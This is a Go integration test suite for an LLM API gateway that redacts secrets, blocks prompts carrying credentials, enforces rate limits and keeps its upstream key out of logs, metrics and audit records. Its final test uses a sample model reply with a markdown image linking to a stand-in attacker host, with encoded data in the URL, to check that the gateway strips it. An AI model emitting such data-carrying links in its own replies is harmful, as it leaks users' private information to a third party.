package gateway_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/prometheus/client_golang/prometheus/promhttp"

	"github.com/rampartsec/rampart/audit"
	"github.com/rampartsec/rampart/auth"
	"github.com/rampartsec/rampart/config"
	"github.com/rampartsec/rampart/gateway"
	"github.com/rampartsec/rampart/internal/fakeupstream"
	"github.com/rampartsec/rampart/limit"
	"github.com/rampartsec/rampart/store/sqlite"

	_ "github.com/rampartsec/rampart/detect/builtin"
)

// upstreamKey is the fake provider's credential; it must never reach a
// client, a log line, an audit record or a metric.
const upstreamKey = "sk-upstream-SECRET-0123456789abcdefXYZ"

// env is a gateway in front of a fake upstream, with a real SQLite store,
// a real in-process limiter and a real audit writer.
type env struct {
	t     testing.TB
	up    *fakeupstream.Server
	upSrv *httptest.Server
	gw    *gateway.Gateway
	srv   *httptest.Server
	st    *sqlite.Store
	aw    *audit.Writer
	key   string
	keyID string
	logs  *syncBuffer
	reg   *prometheus.Registry
}

type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// testConfig is the embedded default with the fake as upstream; mutate
// may change it.
func newEnv(t testing.TB, mutate func(*config.Config)) *env {
	t.Helper()
	e := &env{t: t, logs: &syncBuffer{}}
	e.up = fakeupstream.New(upstreamKey, true)
	e.upSrv = httptest.NewServer(e.up)
	t.Cleanup(e.upSrv.Close)
	t.Setenv("RAMPART_TEST_UPSTREAM_KEY", upstreamKey)
	t.Setenv("OPENAI_API_KEY", upstreamKey)
	t.Setenv("OPENAI_BASE_URL", e.upSrv.URL+"/v1")

	cfg, err := config.Default()
	if err != nil {
		t.Fatal(err)
	}
	cfg.DataDir = t.TempDir()
	if mutate != nil {
		mutate(cfg)
	}
	ctx := context.Background()
	e.st, err = sqlite.Open(ctx, cfg.DataDir+"/rampart.db")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { e.st.Close() })
	log := slog.New(slog.NewJSONHandler(e.logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
	e.aw = audit.NewWriter(e.st, audit.WriterOptions{Logger: log})
	t.Cleanup(func() { _ = e.aw.Close(context.Background()) })
	e.reg = prometheus.NewRegistry()
	e.gw, err = gateway.New(ctx, cfg, gateway.Deps{
		Store: e.st, Limiter: limit.NewMemory(limit.MemoryOptions{}), Audit: e.aw, Logger: log, Registerer: e.reg, Version: "test",
	})
	if err != nil {
		t.Fatal(err)
	}
	mux := http.NewServeMux()
	mux.Handle("/", e.gw.Handler())
	mux.Handle("GET /metrics", promhttp.HandlerFor(e.reg, promhttp.HandlerOpts{}))
	e.srv = httptest.NewServer(mux)
	t.Cleanup(e.srv.Close)
	e.key, e.keyID = e.newKey(auth.CreateOptions{Name: "test"})
	return e
}

func (e *env) newKey(opts auth.CreateOptions) (string, string) {
	e.t.Helper()
	secret, k, err := auth.NewKeyService(e.st, nil).Create(context.Background(), opts)
	if err != nil {
		e.t.Fatal(err)
	}
	return secret, k.ID
}

// post sends a JSON body with the env's key and returns status and body.
func (e *env) post(path, body string) (int, http.Header, []byte) {
	e.t.Helper()
	return e.postKey(e.key, path, body)
}

func (e *env) postKey(key, path, body string) (int, http.Header, []byte) {
	e.t.Helper()
	req, _ := http.NewRequest(http.MethodPost, e.srv.URL+path, strings.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	if key != "" {
		req.Header.Set("Authorization", "Bearer "+key)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		e.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, resp.Header, b
}

func chatBody(content string, stream bool) string {
	b, _ := json.Marshal(map[string]any{
		"model":    "gpt-4o",
		"stream":   stream,
		"messages": []any{map[string]any{"role": "user", "content": content}},
	})
	return string(b)
}

type apiError struct {
	Error struct {
		Message   string `json:"message"`
		Type      string `json:"type"`
		Code      string `json:"code"`
		RequestID string `json:"request_id"`
		Detector  string `json:"detector"`
	} `json:"error"`
}

func decodeError(t *testing.T, b []byte) apiError {
	t.Helper()
	var e apiError
	if err := json.Unmarshal(b, &e); err != nil || e.Error.Message == "" {
		t.Fatalf("not an OpenAI error: %s (%v)", b, err)
	}
	if !strings.HasPrefix(e.Error.RequestID, "req_") {
		t.Fatalf("error without request id: %s", b)
	}
	return e
}

// streamContent reads an SSE body and concatenates the chat deltas'
// content; it also returns any error event.
func streamContent(t *testing.T, body []byte) (string, *apiError, bool) {
	t.Helper()
	var sb strings.Builder
	done := false
	sc := bufio.NewScanner(bytes.NewReader(body))
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		line := sc.Text()
		if !strings.HasPrefix(line, "data: ") {
			continue
		}
		data := strings.TrimPrefix(line, "data: ")
		if data == "[DONE]" {
			done = true
			continue
		}
		var ev struct {
			Choices []struct {
				Delta struct {
					Content *string `json:"content"`
				} `json:"delta"`
			} `json:"choices"`
			Error *json.RawMessage `json:"error"`
		}
		if err := json.Unmarshal([]byte(data), &ev); err != nil {
			t.Fatalf("bad event %q: %v", data, err)
		}
		if ev.Error != nil {
			var ae apiError
			_ = json.Unmarshal([]byte(data), &ae)
			return sb.String(), &ae, done
		}
		for _, c := range ev.Choices {
			if c.Delta.Content != nil {
				sb.WriteString(*c.Delta.Content)
			}
		}
	}
	return sb.String(), nil, done
}

func TestChatPassThrough(t *testing.T) {
	e := newEnv(t, nil)
	status, h, body := e.post("/v1/chat/completions", chatBody("hello", false))
	if status != 200 {
		t.Fatalf("status %d: %s", status, body)
	}
	if !strings.HasPrefix(h.Get("X-Request-Id"), "req_") {
		t.Errorf("no request id header")
	}
	var resp struct {
		Choices []struct {
			Message struct{ Content string } `json:"message"`
		} `json:"choices"`
		SystemFingerprint string `json:"system_fingerprint"`
		Usage             struct {
			PromptTokens int `json:"prompt_tokens"`
		} `json:"usage"`
	}
	if err := json.Unmarshal(body, &resp); err != nil {
		t.Fatal(err)
	}
	if resp.Choices[0].Message.Content != "Hello from the fake upstream." || resp.SystemFingerprint != "fp_fake" || resp.Usage.PromptTokens != 9 {
		t.Fatalf("response not relayed unchanged: %s", body)
	}
	last, _ := e.up.Last()
	if got := last.Header.Get("Authorization"); got != "Bearer "+upstreamKey {
		t.Fatalf("upstream saw Authorization %q", got)
	}
	if strings.Contains(string(last.Body), e.key) || strings.Contains(last.Header.Get("Authorization"), e.key) {
		t.Fatal("the client's key reached the upstream")
	}
}

func TestUnknownFieldsForwarded(t *testing.T) {
	e := newEnv(t, nil)
	body := `{"model":"gpt-4o","messages":[{"role":"user","content":"hi"}],"tools":[{"type":"function","function":{"name":"f","parameters":{"type":"object"}}}],"x_custom":{"a":[1,2.50,true]},"temperature":0.70}`
	if status, _, b := e.post("/v1/chat/completions", body); status != 200 {
		t.Fatalf("status %d: %s", status, b)
	}
	last, _ := e.up.Last()
	if string(last.Body) != body {
		t.Fatalf("upstream got\n%s\nwant\n%s", last.Body, body)
	}
}

func TestStreamPassThrough(t *testing.T) {
	e := newEnv(t, nil)
	status, h, body := e.post("/v1/chat/completions", chatBody("hello", true))
	if status != 200 || !strings.HasPrefix(h.Get("Content-Type"), "text/event-stream") {
		t.Fatalf("status %d ct %q: %s", status, h.Get("Content-Type"), body)
	}
	text, errEv, done := streamContent(t, body)
	if errEv != nil || !done {
		t.Fatalf("error %v done %v: %s", errEv, done, body)
	}
	if text != "Hello from the fake upstream." {
		t.Fatalf("streamed %q", text)
	}
}

// secretReply holds an AWS access key id, a card number and an OpenAI key,
// which the default policy redacts from responses.
func secretReply() (reply string, secrets []string) {
	aws := "AKIA" + "QYLPMN5HFIQR7XYZ"
	card := "4111 1111 " + "1111 1111"
	oai := "sk-proj-" + "Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4zAb7dEf0hIj3k"
	return "Your key is " + aws + ", card " + card + " and token " + oai + ". Done.", []string{aws, card, oai}
}

func TestOutputRedactionNonStreaming(t *testing.T) {
	e := newEnv(t, nil)
	reply, secrets := secretReply()
	e.up.Set(fakeupstream.Behaviour{Reply: reply})
	status, _, body := e.post("/v1/chat/completions", chatBody("hello", false))
	if status != 200 {
		t.Fatalf("status %d: %s", status, body)
	}
	for _, s := range secrets {
		if strings.Contains(string(body), s) {
			t.Fatalf("secret %q reached the client: %s", s, body)
		}
	}
	if !strings.Contains(string(body), "[REDACTED") {
		t.Fatalf("no redaction mark: %s", body)
	}
}

// TestStreamRedactionEverySplit: a redaction spanning two stream chunks
// never reaches the client, whatever byte the split is at.
func TestStreamRedactionEverySplit(t *testing.T) {
	e := newEnv(t, nil)
	reply, secrets := secretReply()
	// The reference: the same reply not streamed.
	e.up.Set(fakeupstream.Behaviour{Reply: reply})
	_, _, body := e.post("/v1/chat/completions", chatBody("x", false))
	var ref struct {
		Choices []struct {
			Message struct{ Content string } `json:"message"`
		} `json:"choices"`
	}
	if err := json.Unmarshal(body, &ref); err != nil {
		t.Fatal(err)
	}
	want := ref.Choices[0].Message.Content
	for i := 0; i <= len(reply); i++ {
		e.up.Set(fakeupstream.Behaviour{Chunks: []string{reply[:i], reply[i:]}})
		status, _, body := e.post("/v1/chat/completions", chatBody("x", true))
		if status != 200 {
			t.Fatalf("split %d: status %d: %s", i, status, body)
		}
		for _, s := range secrets {
			if strings.Contains(string(body), s) {
				t.Fatalf("split %d: secret %q reached the client", i, s)
			}
		}
		// A secret leaked in two pieces would not show in the raw body;
		// the concatenated content shows it.
		got, errEv, done := streamContent(t, body)
		if errEv != nil || !done {
			t.Fatalf("split %d: error %v done %v", i, errEv, done)
		}
		for _, s := range secrets {
			if strings.Contains(got, s) {
				t.Fatalf("split %d: secret %q reached the client across chunks", i, s)
			}
		}
		if got != want {
			t.Fatalf("split %d: streamed %q, want %q", i, got, want)
		}
	}
}

func TestInputBlockAndFindings(t *testing.T) {
	e := newEnv(t, func(c *config.Config) {
		// Block prompts that carry secrets.
		for i := range c.Policies[0].Input {
			if c.Policies[0].Input[i].Detector == "secrets" {
				c.Policies[0].Input[i].Action = "block"
			}
		}
	})
	aws := "AKIA" + "QYLPMN5HFIQR7XYZ"
	status, _, body := e.post("/v1/chat/completions", chatBody("my key is "+aws, false))
	if status != 400 {
		t.Fatalf("status %d: %s", status, body)
	}
	ae := decodeError(t, body)
	if ae.Error.Detector != "secrets" || !strings.Contains(ae.Error.Message, "secrets") || !strings.Contains(ae.Error.Message, ae.Error.RequestID) {
		t.Fatalf("block does not explain itself: %s", body)
	}
	if strings.Contains(string(body), aws) {
		t.Fatal("error body echoes the secret")
	}
	if len(e.up.Requests()) != 0 {
		t.Fatal("blocked request reached the upstream")
	}
}

func TestErrors(t *testing.T) {
	e := newEnv(t, func(c *config.Config) { c.Server.MaxBodyBytes = 4096 })
	tests := []struct {
		name   string
		key    string
		body   string
		status int
		code   string
	}{
		{"no key", "-", chatBody("x", false), 401, ""},
		{"bad key", "rk_AAAAAAAAAAAA_" + strings.Repeat("b", 40), chatBody("x", false), 401, ""},
		{"malformed json", "", `{"model":`, 400, "invalid_request"},
		{"invalid utf8", "", "{\"model\":\"gpt-4o\",\"messages\":[{\"role\":\"user\",\"content\":\"\xff\"}]}", 400, "invalid_request"},
		{"too large", "", chatBody(strings.Repeat("a", 5000), false), 413, "request_too_large"},
		{"no messages", "", `{"model":"gpt-4o"}`, 400, "invalid_request"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			key := e.key
			if tt.key == "-" {
				key = ""
			} else if tt.key != "" {
				key = tt.key
			}
			status, _, body := e.postKey(key, "/v1/chat/completions", tt.body)
			if status != tt.status {
				t.Fatalf("status %d, want %d: %s", status, tt.status, body)
			}
			ae := decodeError(t, body)
			if tt.code != "" && ae.Error.Code != tt.code {
				t.Fatalf("code %q, want %q: %s", ae.Error.Code, tt.code, body)
			}
		})
	}
}

func TestUpstreamFailures(t *testing.T) {
	tests := []struct {
		name   string
		b      fakeupstream.Behaviour
		stream bool
		status int
		code   string
	}{
		{"5xx", fakeupstream.Behaviour{Status: 503}, false, 502, "upstream_error"},
		{"malformed", fakeupstream.Behaviour{Malformed: true}, false, 502, "upstream_malformed_response"},
		{"4xx relayed", fakeupstream.Behaviour{Status: 400}, false, 400, "fake_failure"},
		{"upstream refuses the gateway's key", fakeupstream.Behaviour{Status: 401}, false, 502, "upstream_auth_error"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t, nil)
			e.up.Set(tt.b)
			status, _, body := e.post("/v1/chat/completions", chatBody("x", tt.stream))
			if status != tt.status {
				t.Fatalf("status %d, want %d: %s", status, tt.status, body)
			}
			var ae apiError
			if err := json.Unmarshal(body, &ae); err != nil || ae.Error.Code != tt.code {
				t.Fatalf("code %q, want %q: %s", ae.Error.Code, tt.code, body)
			}
		})
	}
	t.Run("refused", func(t *testing.T) {
		e := newEnv(t, func(c *config.Config) { c.Upstreams[0].BaseURL = "http://127.0.0.1:1/v1" })
		status, _, body := e.post("/v1/chat/completions", chatBody("x", false))
		if status != 502 || decodeError(t, body).Error.Code != "upstream_unreachable" {
			t.Fatalf("status %d: %s", status, body)
		}
	})
	t.Run("timeout", func(t *testing.T) {
		e := newEnv(t, func(c *config.Config) { c.Upstreams[0].Timeout = 200 * time.Millisecond })
		e.up.Set(fakeupstream.Behaviour{Delay: 2 * time.Second})
		status, _, body := e.post("/v1/chat/completions", chatBody("x", false))
		if status != 504 || decodeError(t, body).Error.Code != "upstream_timeout" {
			t.Fatalf("status %d: %s", status, body)
		}
	})
	t.Run("stream cut", func(t *testing.T) {
		e := newEnv(t, nil)
		e.up.Set(fakeupstream.Behaviour{Reply: "one two three four five six", CutAfter: 3})
		status, _, body := e.post("/v1/chat/completions", chatBody("x", true))
		if status != 200 {
			t.Fatalf("status %d", status)
		}
		_, errEv, done := streamContent(t, body)
		if errEv == nil || errEv.Error.Code != "upstream_stream_cut" || done {
			t.Fatalf("cut stream not reported: %s", body)
		}
	})
}

func TestResponsesAndEmbeddingsAndModels(t *testing.T) {
	e := newEnv(t, nil)
	status, _, body := e.post("/v1/responses", `{"model":"gpt-4o","input":"hi"}`)
	if status != 200 || !strings.Contains(string(body), "Hello from the fake upstream.") {
		t.Fatalf("responses: %d %s", status, body)
	}
	status, _, body = e.post("/v1/embeddings", `{"model":"text-embedding-3-small","input":["a","b"]}`)
	if status != 200 || !strings.Contains(string(body), `"embedding"`) {
		t.Fatalf("embeddings: %d %s", status, body)
	}
	reply, secrets := secretReply()
	e.up.Set(fakeupstream.Behaviour{Reply: reply, ChunkSize: 3})
	status, _, body = e.post("/v1/responses", `{"model":"gpt-4o","input":"hi","stream":true}`)
	if status != 200 {
		t.Fatalf("responses stream: %d %s", status, body)
	}
	for _, s := range secrets {
		if strings.Contains(string(body), s) {
			t.Fatalf("secret %q reached the client in a Responses stream", s)
		}
	}
	if !strings.Contains(string(body), "response.completed") {
		t.Fatalf("stream not completed: %s", body)
	}

	// Models: a key limited to gpt-4o* sees only those.
	limited, _ := e.newKey(auth.CreateOptions{Name: "limited", Models: []string{"gpt-4o*"}})
	req, _ := http.NewRequest(http.MethodGet, e.srv.URL+"/v1/models", nil)
	req.Header.Set("Authorization", "Bearer "+limited)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	var list struct {
		Data []struct{ ID string } `json:"data"`
	}
	if err := json.Unmarshal(b, &list); err != nil || len(list.Data) == 0 {
		t.Fatalf("models: %s", b)
	}
	for _, m := range list.Data {
		if !strings.HasPrefix(m.ID, "gpt-4o") {
			t.Fatalf("key limited to gpt-4o* sees %q", m.ID)
		}
	}
	status, _, body = e.postKey(limited, "/v1/embeddings", `{"model":"text-embedding-3-small","input":"a"}`)
	if status != 403 {
		t.Fatalf("disallowed model: %d %s", status, body)
	}
}

func TestRateLimit(t *testing.T) {
	e := newEnv(t, nil)
	key, _ := e.newKey(auth.CreateOptions{Name: "slow", Limits: config.LimitSet{RequestsPerMinute: 3}})
	for i := 0; i < 3; i++ {
		if status, _, body := e.postKey(key, "/v1/chat/completions", chatBody("x", false)); status != 200 {
			t.Fatalf("request %d: %d %s", i, status, body)
		}
	}
	status, h, body := e.postKey(key, "/v1/chat/completions", chatBody("x", false))
	if status != 429 || h.Get("Retry-After") == "" {
		t.Fatalf("status %d retry-after %q: %s", status, h.Get("Retry-After"), body)
	}
	if decodeError(t, body).Error.Type != "rate_limit_error" {
		t.Fatalf("%s", body)
	}
}

func TestRevokedKeyRefusedNextRequest(t *testing.T) {
	e := newEnv(t, nil)
	if status, _, _ := e.post("/v1/chat/completions", chatBody("x", false)); status != 200 {
		t.Fatal("first request failed")
	}
	if _, err := auth.NewKeyService(e.st, nil).Revoke(context.Background(), e.keyID); err != nil {
		t.Fatal(err)
	}
	status, _, body := e.post("/v1/chat/completions", chatBody("x", false))
	if status != 401 {
		t.Fatalf("revoked key: %d %s", status, body)
	}
}

// TestNoSecretsAnywhere: after traffic of every kind, neither the upstream
// key nor the client key appears in the logs, the audit log, the metrics
// or any response.
func TestNoSecretsAnywhere(t *testing.T) {
	e := newEnv(t, nil)
	var bodies []string
	run := func(path, body string) {
		_, _, b := e.post(path, body)
		bodies = append(bodies, string(b))
	}
	run("/v1/chat/completions", chatBody("hi", false))
	run("/v1/chat/completions", chatBody("hi", true))
	e.up.Set(fakeupstream.Behaviour{Status: 401, ErrorBody: `{"error":{"message":"Incorrect API key provided: ` + upstreamKey + `","type":"invalid_request_error","code":"invalid_api_key"}}`})
	run("/v1/chat/completions", chatBody("hi", false))
	e.up.Set(fakeupstream.Behaviour{Status: 500, ErrorBody: `upstream crashed with key ` + upstreamKey})
	run("/v1/chat/completions", chatBody("hi", false))
	e.up.Set(fakeupstream.Behaviour{})
	_, _, b := e.postKey(e.key+"x", "/v1/chat/completions", chatBody("hi", false))
	bodies = append(bodies, string(b))

	resp, err := http.Get(e.srv.URL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	metrics, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	var auditText strings.Builder
	if err := e.st.ScanAudit(context.Background(), 1, func(en audit.Entry) error {
		auditText.Write(en.Payload)
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	if auditText.Len() == 0 {
		t.Fatal("no audit records")
	}
	haystacks := map[string]string{"logs": e.logs.String(), "metrics": string(metrics), "audit": auditText.String(), "responses": strings.Join(bodies, "\n")}
	for where, text := range haystacks {
		for _, secret := range []string{upstreamKey, e.key, e.key[len(e.key)-40:]} {
			if strings.Contains(text, secret) {
				t.Errorf("a secret appears in the %s", where)
			}
		}
	}
}

// TestClientDisconnectCancelsUpstream: when the client goes away in the
// middle of a stream, the gateway cancels its upstream call.
func TestClientDisconnectCancelsUpstream(t *testing.T) {
	e := newEnv(t, nil)
	e.up.Set(fakeupstream.Behaviour{Reply: strings.Repeat("word ", 200), ChunkDelay: 20 * time.Millisecond})
	ctx, cancel := context.WithCancel(context.Background())
	req, _ := http.NewRequestWithContext(ctx, http.MethodPost, e.srv.URL+"/v1/chat/completions", strings.NewReader(chatBody("x", true)))
	req.Header.Set("Authorization", "Bearer "+e.key)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 64)
	if _, err := resp.Body.Read(buf); err != nil {
		t.Fatal(err)
	}
	cancel()
	resp.Body.Close()
	deadline := time.Now().Add(5 * time.Second)
	for e.up.Aborted() == 0 {
		if time.Now().After(deadline) {
			t.Fatal("the upstream call was not cancelled after the client left")
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// TestExfilLinkRedactedKeepsText: the default output policy removes a
// data-carrying markdown image and keeps its alt text, streamed (split at
// every byte) exactly as not streamed.
func TestExfilLinkRedactedKeepsText(t *testing.T) {
	e := newEnv(t, nil)
	url := "https://collect.attacker.example/p.png?d=" + "U2VjcmV0IHByb2plY3QgbmFtZTogQmx1ZWJpcmQ7IGJ1ZGdldDogNC4ybQ"
	reply := "Here is the summary. ![status chart](" + url + ") Thanks."
	e.up.Set(fakeupstream.Behaviour{Reply: reply})
	status, _, body := e.post("/v1/chat/completions", chatBody("summarise", false))
	if status != 200 {
		t.Fatalf("status %d: %s", status, body)
	}
	var ref struct {
		Choices []struct {
			Message struct{ Content string } `json:"message"`
		} `json:"choices"`
	}
	if err := json.Unmarshal(body, &ref); err != nil {
		t.Fatal(err)
	}
	want := ref.Choices[0].Message.Content
	if strings.Contains(want, "attacker.example") || !strings.Contains(want, "status chart") || !strings.HasPrefix(want, "Here is the summary.") {
		t.Fatalf("non-streamed answer %q: want the image's URL gone and its alt text kept", want)
	}
	for i := 0; i <= len(reply); i++ {
		e.up.Set(fakeupstream.Behaviour{Chunks: []string{reply[:i], reply[i:]}})
		status, _, body := e.post("/v1/chat/completions", chatBody("summarise", true))
		if status != 200 {
			t.Fatalf("split %d: status %d: %s", i, status, body)
		}
		got, errEv, done := streamContent(t, body)
		if errEv != nil || !done {
			t.Fatalf("split %d: error %v done %v", i, errEv, done)
		}
		if got != want {
			t.Fatalf("split %d: streamed %q, want %q", i, got, want)
		}
	}
}
